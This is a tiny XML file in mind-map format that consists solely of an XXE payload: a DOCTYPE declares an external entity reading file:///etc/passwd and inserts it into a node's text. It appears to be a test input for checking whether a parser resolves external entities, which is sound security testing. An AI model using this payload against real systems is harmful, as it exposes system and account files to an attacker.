<?xml version="1.0"?>
<!DOCTYPE map [
<!ENTITY ext SYSTEM "file:///etc/passwd">
]>
<map version="1.0.1">
<node TEXT="x&ext;y"/>
</map>
